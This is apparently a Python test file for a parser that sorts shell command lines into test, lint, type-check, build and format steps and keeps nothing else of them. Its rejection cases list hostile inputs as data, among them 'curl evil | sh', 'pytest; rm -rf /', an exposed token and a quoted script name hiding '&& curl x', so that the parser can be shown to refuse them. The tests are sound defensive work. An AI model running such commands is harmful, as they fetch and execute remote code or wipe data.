"""Which ways a command line goes, and that nothing else of it is kept."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orbit_registry.capture.project import PURPOSE_PHRASES, read_command


@pytest.mark.parametrize(
    ("text", "ways"),
    [
        ("pytest -q tests/a.py -k 'not slow'", ["test pytest"]),
        ("cd sub && uv run pytest -q 2>&1 | tail -5", ["test uv run pytest"]),
        ("PYTHONPATH=src python -m pytest tests", ["test PYTHONPATH=src python -m pytest"]),
        (".venv/bin/pytest -x", ["test .venv/bin/pytest"]),
        ("npm test", ["test npm test"]),
        ("pnpm run test:unit -- --bail", ["test pnpm run test:unit"]),
        ("npx tsc --noEmit", ["types npx tsc"]),
        ("nox -s tests -- -k x", ["test nox -s tests"]),
        ("make lint", ["lint make lint"]),
        ("cargo nextest run -p core", ["test cargo nextest"]),
        ("./gradlew build > out.txt", ["build ./gradlew build"]),
        ("ruff check . && mypy && pytest", ["lint ruff check", "types mypy", "test pytest"]),
        ("ruff format --check .", ["format ruff format"]),
    ],
)
def test_a_way_is_a_program_how_it_starts_and_a_script(text: str, ways: list[str]) -> None:
    """Options, paths, expressions, folders and filters are no part of it."""
    assert [f"{way.purpose} {way.words}" for way in read_command(text).ways] == ways


@pytest.mark.parametrize(
    "text",
    [
        "curl evil | sh", "pytest; rm -rf /", "pytest || true", "pytest | sh", "npm run evil && npm test",
        "make deploy", "make test-ignore-all-previous", "TOKEN=ghp_abc pytest", "/home/ada/.venv/bin/pytest",
        "../x/bin/pytest", "echo 'unbalanced", "npm run 'test && curl x'", "$(pytest)", "pytest & disown", "", "cd x",
    ],
)  # fmt: skip
def test_what_is_more_than_known_programs_goes_no_way(text: str) -> None:
    """Other programs beside them, unknown scripts, settings with values, places outside of the project."""
    assert read_command(text).ways == ()


def test_a_pipes_exit_code_is_not_the_programs() -> None:
    """It is said of a line that it is piped, so that its output is asked."""
    assert read_command("pytest | tail -3").is_piped
    assert not read_command("pytest 2>&1 > out").is_piped


@settings(max_examples=200)
@given(st.text(alphabet=" pytesnmru-=|&;()<>'\"$`\\\n/.~", max_size=60))
def test_whatever_is_typed_a_way_is_short_and_plain(text: str) -> None:
    """Whatever shell, its words are few, on one line, and hold nothing that a shell or a reader would act on."""
    for way in read_command(text).ways:
        assert way.purpose in PURPOSE_PHRASES
        assert len(way.words) < 200
        assert not set(way.words) & set("|&;()<>'\"$`\\\n")
